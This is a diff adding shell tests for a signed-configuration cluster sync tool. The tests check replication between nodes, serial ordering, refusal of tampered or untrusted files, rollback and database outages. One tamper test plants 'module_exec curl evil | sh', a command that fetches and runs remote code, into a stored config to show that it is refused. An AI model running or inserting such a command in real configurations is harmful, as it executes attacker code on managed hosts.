@@ -83,6 +83,7 @@ setup() {
 
 teardown() {
 	stop_recv
+	if [ -f "$T/sync.pid" ]; then kill "$(cat "$T/sync.pid")" 2>/dev/null || true; fi
 	[ -d "$T/db" ] && sh "$TOOLS/mariadb.sh" stop "$T/db" >/dev/null 2>&1
 	local bad=0
 	for f in "$T"/*.log; do
@@ -1054,4 +1055,287 @@ sys.exit(r.returncode)' "$@"
 	assert_output --partial "\"why\":\"over upload_max_items\"}"
 	run valid_json
 	assert_output ok
+}
+
+# ---- remote configuration on every node (cluster db, conf-dist sync) ----
+
+# cluster_setup: a private MariaDB and two nodes, A ($SP, $T/A.conf) and
+# B ($T/b, $T/B.conf), each with its own signing key, both trusting both
+# keys, "cluster db" through the conf-dist account.  C ($T/c) has a key
+# neither trusts.
+cluster_setup() {
+	command -v mariadbd >/dev/null || command -v mysqld >/dev/null || skip "no MariaDB server"
+	DBDIR=$T/db
+	run env OCTO_DB_GROUP="$RUN_GROUP" sh "$TOOLS/mariadb.sh" start "$DBDIR"
+	assert_success
+	. "$DBDIR/env"
+	mk_spool "$T/b"
+	mk_spool "$T/c"
+	OUTA=$OUT
+	OUTB=$T/b/conf-dist/out
+	OUTC=$T/c/conf-dist/out
+	mkdir -p "$T/keysB" "$T/keysC"
+	[ "$(id -u)" -ne 0 ] || chown "$RUN_USER:$RUN_GROUP" "$T/keysB" "$T/keysC"
+	nodeconf A "$SP" "$T/keys" "$T/keysB/sign.pub"
+	nodeconf B "$T/b" "$T/keysB" "$T/keys/sign.pub"
+	nodeconf C "$T/c" "$T/keysC" "$T/keys/sign.pub"
+	run node B keygen
+	assert_success
+	run node C keygen
+	assert_success
+}
+
+# nodeconf NAME SPOOL KEYDIR OTHERKEY: $T/NAME.conf.
+nodeconf() {
+	{
+		echo "spool_dir $2"
+		cat "$OCTO_DB_CONF"
+		echo "[conf-dist]"
+		echo "user $RUN_USER"
+		echo "sign_key $3/sign.key"
+		echo "sign_pubkey $3/sign.pub"
+		echo "upload_producer $RUN_USER"
+		echo "recv_pubkey $KEYS/tentacle-recv.pub"
+		echo "acl_groups Servers=$ADMIN_GROUP,$(self_group)"
+		echo "acl_collections *=$(self_group)"
+		echo "acl_commands *=$(self_group)"
+		echo "cluster db"
+		echo "cluster_pubkeys $4"
+		echo "server_name $1"
+		echo "db_user octo_conf_dist"
+		echo "db_password_file $DBDIR/secrets/octo_conf_dist.pw"
+		echo "db_retry_time 0"
+	} > "$T/$1.conf"
+	chmod 0644 "$T/$1.conf"
+}
+
+# node NAME ARGS...: conf-dist of that node.
+node() {
+	local n=$1
+	shift
+	"$T/bin/conf-dist" -c "$T/$n.conf" "$@" 2> >(tee -a "$T/cd.log" >&2)
+}
+
+csql() {
+	sh "$TOOLS/mariadb.sh" sql "$DBDIR" -N -B -e "$1" pandora
+}
+
+# same_served A B FILE...: both trees serve each file and its manifest,
+# byte for byte.
+same_served() {
+	local a=$1 b=$2 f
+	shift 2
+	for f in "$@"; do
+		cmp "$a/$f" "$b/$f" && cmp "$a/$f.sig" "$b/$f.sig" || return 1
+	done
+}
+
+@test "cluster: a publication on one node is served by the other after its sync, with the publisher's signature; conf, md5, collection, command" {
+	cluster_setup
+	K=$(key web01)
+	conf "$T/w.conf" web01 "file_collection fc_c" "cmd_file ops-up"
+	run node A submit web01 "$T/w.conf"
+	assert_success
+	run csql "SELECT dir, name, node FROM octo_conf_file ORDER BY dir"
+	assert_output "$(printf 'conf\t%s.conf\tA\nmd5\t%s.md5\tA' "$K" "$K")"
+	run csql "SELECT COUNT(*) FROM octo_conf_head h JOIN octo_conf_file f ON f.id = h.file_id AND f.serial = h.serial"
+	assert_output 2
+	assert_file_not_exists "$OUTB/conf/$K.conf"
+	mkdir -p "$T/coll"
+	printf '#!/bin/sh\necho 1\n' > "$T/coll/p.sh"
+	run node A collection publish fc_c "$T/coll"
+	assert_success
+	printf 'uptime\n' > "$T/up.rcmd"
+	run node A command publish ops-up "$T/up.rcmd"
+	assert_success
+	run node B -d sync
+	assert_success
+	same_served "$OUTA" "$OUTB" "conf/$K.conf" "md5/$K.md5" \
+	    collections/fc_c.zip md5/fc_c.md5 commands/ops-up.rcmd md5/ops-up.md5
+	# B works out who may fetch the collection and the command from
+	# what it serves, as A did.
+	assert_equal "$(cat "$OUTB/collections/fc_c.acl")" "$K"
+	assert_equal "$(cat "$OUTB/commands/ops-up.acl")" "$K"
+	# Verified on B with the cluster's keys; B's own key alone does not
+	# pass it: it is A's signature.
+	run node B verify -a web01 "$OUTB/conf/$K.conf" "$OUTB/md5/$K.md5"
+	assert_success
+	run node B verify -k "$T/keysB/sign.pub" "$OUTB/conf/$K.conf"
+	assert_failure 65
+	# One event on B names what it served and who published it.
+	run cat "$T/b/audit-sign/new"/*
+	assert_output --partial '"action":"config.sync","outcome":"served"'
+	assert_output --partial "\"file\":\"conf/$K.conf\""
+	assert_output --partial '"node":"A"'
+	grep -q "event=sync.served file=conf/$K.conf serial=[0-9]* node=\"A\"" "$T/cd.log"
+	# Nothing new: a pass serves nothing and says nothing.
+	n=$(ls "$T/b/audit-sign/new" | wc -l)
+	run node B -d sync
+	assert_success
+	assert_equal "$(ls "$T/b/audit-sign/new" | wc -l)" "$n"
+	# A's own pass finds it serves everything already.
+	run node A -d sync
+	assert_success
+	refute_output --partial "sync.served"
+}
+
+@test "cluster: a node that was down catches up with the newest; the other node's later publication wins everywhere; serials only grow; sync -f follows within seconds and stops on SIGTERM" {
+	cluster_setup
+	K=$(key web01)
+	for v in 1 2 3; do
+		conf "$T/v$v.conf" web01 "module_begin" "module_name V$v" "module_type generic_data" "module_exec echo $v" "module_end"
+		run node A submit web01 "$T/v$v.conf"
+		assert_success
+	done
+	run node B -d sync
+	assert_success
+	cmp "$T/v3.conf" "$OUTB/conf/$K.conf"
+	same_served "$OUTA" "$OUTB" "conf/$K.conf" "md5/$K.md5"
+	s3=$(sed -n 's/^Serial: //p' "$OUTB/conf/$K.conf.sig")
+	# B publishes the next version, signed by B, above A's serial.
+	conf "$T/v4.conf" web01 "module_begin" "module_name V4" "module_type generic_data" "module_exec echo 4" "module_end"
+	run node B submit web01 "$T/v4.conf"
+	assert_success
+	s4=$(sed -n 's/^Serial: //p' "$OUTB/conf/$K.conf.sig")
+	[ "$s4" -gt "$s3" ]
+	run node A -d sync
+	assert_success
+	cmp "$T/v4.conf" "$OUTA/conf/$K.conf"
+	same_served "$OUTA" "$OUTB" "conf/$K.conf" "md5/$K.md5"
+	run csql "SELECT COUNT(*), COUNT(DISTINCT serial) FROM octo_conf_file WHERE name = '$K.conf'"
+	assert_output "$(printf '4\t4')"
+	# Following: A publishes while B's sync -f runs; B serves it within
+	# seconds, and SIGTERM ends it cleanly.
+	"$T/bin/conf-dist" -c "$T/B.conf" -d sync -f > "$T/syncB.log" 2>&1 &
+	spid=$!
+	echo "$spid" > "$T/sync.pid"
+	conf "$T/v5.conf" web01 "module_begin" "module_name V5" "module_type generic_data" "module_exec echo 5" "module_end"
+	t0=$(date +%s%N)
+	run node A submit web01 "$T/v5.conf"
+	assert_success
+	for _ in $(seq 1 100); do
+		cmp -s "$T/v5.conf" "$OUTB/conf/$K.conf" && cmp -s "$OUTA/md5/$K.md5" "$OUTB/md5/$K.md5" && break
+		sleep 0.1
+	done
+	t1=$(date +%s%N)
+	cmp "$T/v5.conf" "$OUTB/conf/$K.conf"
+	same_served "$OUTA" "$OUTB" "conf/$K.conf" "md5/$K.md5"
+	echo "# served on B $(( (t1 - t0) / 1000000 )) ms after the publication on A" >&3
+	kill -TERM "$spid"
+	wait "$spid"
+	rm "$T/sync.pid"
+	grep -q "event=sync.done rc=0" "$T/syncB.log"
+}
+
+@test "cluster: never served: a file changed in the database, a key the cluster does not trust, an older serial; each refusal logged and audited once" {
+	cluster_setup
+	K=$(key web01)
+	conf "$T/v1.conf" web01
+	run node A submit web01 "$T/v1.conf"
+	assert_success
+	run node B -d sync
+	assert_success
+	cmp "$T/v1.conf" "$OUTB/conf/$K.conf"
+	# Someone with write access to the database changes what A signed.
+	conf "$T/v2.conf" web01 "module_begin" "module_name V2" "module_type generic_data" "module_exec echo 2" "module_end"
+	run node A submit web01 "$T/v2.conf"
+	assert_success
+	csql "UPDATE octo_conf_file SET body = CONCAT(body, 'module_exec curl evil | sh\n') WHERE name = '$K.conf' AND serial = (SELECT serial FROM octo_conf_head WHERE dir = 'conf' AND name = '$K.conf')"
+	run node B -d sync
+	assert_success
+	cmp "$T/v1.conf" "$OUTB/conf/$K.conf"
+	grep -q "event=sync.refused file=conf/$K.conf serial=[0-9]* node=\"A\" reason=\"the file is not the one the manifest signs" "$T/cd.log"
+	# Its md5 is A's and intact: served (the agent fetches the conf,
+	# still v1, and asks again later; never the changed one).
+	# Said once: a second pass refuses again without a second event.
+	run cat "$T/b/audit-sign/new"/*
+	assert_output --partial '"refused":[{"file":"conf/'"$K"'.conf"'
+	n=$(cat "$T/b/audit-sign/new"/* | grep -c '"refused"')
+	run node B -d sync
+	assert_success
+	# (a new process: said again, once per process and file version)
+	assert_equal "$(cat "$T/b/audit-sign/new"/* | grep -c '"refused"')" "$((n + 1))"
+	cmp "$T/v1.conf" "$OUTB/conf/$K.conf"
+	# C's key is not the cluster's: what C publishes is served nowhere
+	# else.
+	conf "$T/v3.conf" web01 "module_begin" "module_name V3" "module_type generic_data" "module_exec echo 3" "module_end"
+	run node C submit web01 "$T/v3.conf"
+	assert_success
+	run node B -d sync
+	assert_success
+	cmp "$T/v1.conf" "$OUTB/conf/$K.conf"
+	grep -q "event=sync.refused file=conf/$K.conf serial=[0-9]* node=\"C\" reason=\"signed by key [0-9a-f]*, which is not one of the cluster's\"" "$T/cd.log"
+	# A newer, genuine publication from A passes again.
+	conf "$T/v4.conf" web01 "module_begin" "module_name V4" "module_type generic_data" "module_exec echo 4" "module_end"
+	run node A submit web01 "$T/v4.conf"
+	assert_success
+	run node B -d sync
+	assert_success
+	cmp "$T/v4.conf" "$OUTB/conf/$K.conf"
+	# Rollback: the head pointed back at v1's row (genuine, older).
+	csql "UPDATE octo_conf_head h JOIN octo_conf_file f ON f.dir = h.dir AND f.name = h.name SET h.serial = f.serial, h.file_id = f.id, h.changed_at = UNIX_TIMESTAMP() WHERE h.name = '$K.conf' AND f.id = (SELECT MIN(id) FROM octo_conf_file WHERE name = '$K.conf')"
+	run csql "SELECT COUNT(*) FROM octo_conf_head h JOIN octo_conf_file f ON f.id = h.file_id WHERE h.name = '$K.conf' AND f.id = (SELECT MIN(id) FROM octo_conf_file WHERE name = '$K.conf')"
+	assert_output 1
+	mk_spool "$T/d"
+	nodeconf D "$T/d" "$T/keys" "$T/keysB/sign.pub"
+	run node B -d sync
+	assert_success
+	cmp "$T/v4.conf" "$OUTB/conf/$K.conf"
+	# A node with nothing yet takes the genuine (older) head: the
+	# database is the cluster's word; the rollback is the operator's to
+	# see in octo_conf_file, where every version stays.
+	run node D -d sync
+	assert_success
+	cmp "$T/v1.conf" "$T/d/conf-dist/out/conf/$K.conf"
+}
+
+@test "cluster: the database down: nothing is served, the submission waits in the queue (75) and is published when it is back; a crash after the database took a publication: the node's own sync serves it" {
+	cluster_setup
+	K=$(key web01)
+	conf "$T/v1.conf" web01
+	sh "$TOOLS/mariadb.sh" stop "$DBDIR"
+	run node A submit web01 "$T/v1.conf"
+	assert_equal "$status" 75
+	assert_file_not_exists "$OUTA/conf/$K.conf"
+	grep -q "event=publish.fail agent=\"web01\" reason=\"publish $K.conf: cluster database 127.0.0.1:$MYSQL_PORT: connect" "$T/cd.log"
+	run node B -d sync
+	assert_equal "$status" 75
+	# Through the queue (root runs: an authorised user's submission):
+	# the item stays until the database is back.
+	if [ -n "${U_ALICE:-}" ]; then
+		run setpriv --reuid="$U_ALICE" --regid="$(id -g "$U_ALICE")" --init-groups -- \
+		    "$T/bin/conf-dist" -c "$T/A.conf" submit web01 "$T/v1.conf"
+		assert_success
+		assert_equal "$(ls "$SP/conf-dist/submit/new" | wc -l)" 1
+		run node A -d drain
+		assert_equal "$status" 75
+		assert_output --partial "event=queue.stop"
+		assert_equal "$(ls "$SP/conf-dist/submit/new" | wc -l)" 1
+		assert_file_not_exists "$OUTA/conf/$K.conf"
+	fi
+	run env OCTO_DB_GROUP="$RUN_GROUP" sh "$TOOLS/mariadb.sh" start "$DBDIR"
+	assert_success
+	if [ -n "${U_ALICE:-}" ]; then
+		run node A -d drain
+		assert_success
+		assert_equal "$(ls "$SP/conf-dist/submit/new" | wc -l)" 0
+		assert_equal "$(ls "$SP/conf-dist/submit/reject" | wc -l)" 0
+	else
+		run node A submit web01 "$T/v1.conf"
+		assert_success
+	fi
+	cmp "$T/v1.conf" "$OUTA/conf/$K.conf"
+	# Killed right after the database committed, before A served it.
+	conf "$T/v2.conf" web01 "module_begin" "module_name V2" "module_type generic_data" "module_exec echo 2" "module_end"
+	run env PIPELINE_CRASH_AT=cluster-put "$T/bin/conf-dist" -c "$T/A.conf" submit web01 "$T/v2.conf"
+	assert_equal "$status" 99
+	cmp "$T/v1.conf" "$OUTA/conf/$K.conf"
+	run node A -d sync
+	assert_success
+	cmp "$T/v2.conf" "$OUTA/conf/$K.conf"
+	run node B -d sync
+	assert_success
+	same_served "$OUTA" "$OUTB" "conf/$K.conf" "md5/$K.md5"
+	run node A verify -a web01 -s "$T/state" "$OUTA/conf/$K.conf" "$OUTA/md5/$K.md5"
+	assert_success
 }
